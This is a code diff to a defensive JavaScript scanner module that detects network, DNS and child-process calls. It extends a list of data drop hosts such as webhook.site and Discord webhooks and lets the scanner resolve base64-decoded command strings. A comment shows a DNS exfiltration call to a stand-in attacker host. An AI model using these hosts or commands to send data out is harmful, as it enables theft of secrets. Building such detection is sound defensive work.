@@ -1,5 +1,6 @@
 import type { CallSite, StringSite } from "../ast/facts.js";
 import { staticString, HOLE } from "../ast/static-value.js";
+import type { Node } from "../ast/walk.js";
 import type { FileContext } from "./rule.js";
 
 /**
@@ -8,9 +9,9 @@ import type { FileContext } from "./rule.js";
  */
 
 const NETWORK_CALLEE =
-  /^(?:https?|http2)\.(?:request|get|connect)$|^fetch$|^(?:node-fetch|cross-fetch|undici\.(?:fetch|request)|axios(?:\.\w+)?|got(?:\.\w+)?|needle|request(?:\.\w+)?|superagent(?:\.\w+)?)$|^net\.(?:connect|createConnection|Socket)$|^tls\.connect$|^XMLHttpRequest$|^WebSocket$|^ws$/;
+  /^(?:https?|http2)\.(?:request|get|connect)$|^fetch$|^(?:node-fetch|cross-fetch|undici\.(?:fetch|request)|axios(?:\.\w+)?|got(?:\.\w+)?|needle|request(?:\.\w+)?|superagent(?:\.\w+)?)$|^net\.(?:connect|createConnection|Socket)$|^tls\.connect$|^XMLHttpRequest$|^WebSocket$|^ws$|^(?:socket\.io-client|sync-request|request-promise(?:-native)?|phin|bent|make-fetch-happen)(?:\.\w+)?$|(?:^|\.)WebhookClient$|^(?:ftp|jsftp|basic-ftp\.Client|ssh2-sftp-client|nodemailer\.createTransport)$/;
 const DNS_CALLEE = /^dns(?:\.promises)?\.(?:lookup|resolve\w*|reverse)$|^dns\.Resolver$/;
-const PROCESS_CALLEE = /^child_process\.(?:exec|execSync|spawn|spawnSync|execFile|execFileSync|fork)$/;
+export const PROCESS_CALLEE = /^child_process\.(?:exec|execSync|spawn|spawnSync|execFile|execFileSync|fork)$/;
 /** DNS look-up tools: with a name built at run time they carry data out in the query itself. */
 const DNS_COMMAND = /^\s*(?:nslookup|dig|host|drill|ping|Resolve-DnsName)\b/i;
 const DOWNLOAD_COMMAND = /\b(?:curl|wget|Invoke-WebRequest|iwr|Invoke-RestMethod|irm)\b/i;
@@ -26,7 +27,7 @@ export function dnsCalls(file: FileContext): CallSite[] {
 /** `exec("nslookup " + data + ".attacker.example")`: a DNS query whose name is built from data. */
 export function dnsCommands(file: FileContext): CallSite[] {
   return processCalls(file).filter((call) => {
-    const line = commandLine(call);
+    const line = commandLine(file, call);
     return DNS_COMMAND.test(line) && line.includes(HOLE);
   });
 }
@@ -35,17 +36,22 @@ export function processCalls(file: FileContext): CallSite[] {
   return file.ast?.calls.filter((call) => PROCESS_CALLEE.test(call.callee)) ?? [];
 }
 
-/** The command line a process call runs, as far as it is static: `exec("curl " + u)` → "curl …". */
-export function commandLine(call: CallSite): string {
-  const [command, second] = call.args;
-  const head = staticString(command) ?? HOLE;
+/**
+ * The command line a process call runs, as far as it is static: `exec("curl " + u)` → "curl …".
+ * Names bound once are followed: `const cmd = Buffer.from(b64, "base64").toString(); spawn(cmd)`.
+ */
+export function commandLine(file: FileContext, call: CallSite): string {
+  const stringOf = (node: Node | undefined) => file.ast?.stringOf(node) ?? staticString(node);
+  const [command] = call.args;
+  const second = file.ast?.resolve(call.args[1]) ?? call.args[1];
+  const head = stringOf(command) ?? HOLE;
   if (second?.type !== "ArrayExpression") return head;
-  return [head, ...second.elements.map((element) => staticString(element as never) ?? HOLE)].join(" ");
+  return [head, ...second.elements.map((element) => stringOf(element as Node) ?? HOLE)].join(" ");
 }
 
 /** Process calls whose command line downloads something (curl, wget, PowerShell). */
 export function downloadCommands(file: FileContext): CallSite[] {
-  return processCalls(file).filter((call) => DOWNLOAD_COMMAND.test(commandLine(call)));
+  return processCalls(file).filter((call) => DOWNLOAD_COMMAND.test(commandLine(file, call)));
 }
 
 export function stringsMatching(file: FileContext, pattern: RegExp): StringSite[] {
@@ -60,7 +66,7 @@ export function textMatch(file: FileContext, pattern: RegExp): number | undefine
 
 /** Hosts that receive data with no account or server of one's own: where stolen data goes. */
 export const DROP_HOST =
-  /\b(?:webhook\.site|oastify\.com|requestcatcher\.com|hookbin\.com|ptsv[23]\.com|postb\.in|webhook-test\.com|discord(?:app)?\.com\/api\/webhooks|hooks\.slack\.com\/services|api\.telegram\.org\/bot|pastebin\.com|paste\.ee|hastebin|ghostbin|requestbin|pipedream\.net|\w+\.m\.pipedream|beeceptor\.com|ngrok(?:-free)?\.(?:io|app|dev)|trycloudflare\.com|serveo\.net|localtunnel\.me|loca\.lt|interact\.sh|oast\.(?:fun|me|pro|live|site|online)|burpcollaborator\.net|canarytokens\.com|dnslog\.cn|ceye\.io|transfer\.sh|file\.io|ipinfo\.io|bashupload\.com)\b/i;
+  /\b(?:webhook\.site|oastify\.com|requestcatcher\.com|hookbin\.com|ptsv[23]\.com|postb\.in|webhook-test\.com|discord(?:app)?\.com\/api\/webhooks|(?:cdn\.discordapp\.com|media\.discordapp\.net)\/attachments|hooks\.slack\.com\/services|api\.telegram\.org\/bot|pastebin\.com|paste\.ee|hastebin|ghostbin|requestbin|pipedream\.net|\w+\.m\.pipedream|beeceptor\.com|ngrok(?:-free)?\.(?:io|app|dev)|trycloudflare\.com|serveo\.net|localtunnel\.me|loca\.lt|interact\.sh|oast\.(?:fun|me|pro|live|site|online)|burpcollaborator\.net|canarytokens\.com|dnslog\.cn|ceye\.io|transfer\.sh|file\.io|ipinfo\.io|bashupload\.com)\b/i;
 
 /** A URL whose host is a literal IPv4 address that is not loopback or private. */
 export const RAW_IP_URL = /\b(?:https?|wss?|tcp):\/\/(?!(?:127|10|0)\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|169\.254\.)\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}(?::\d+)?/;
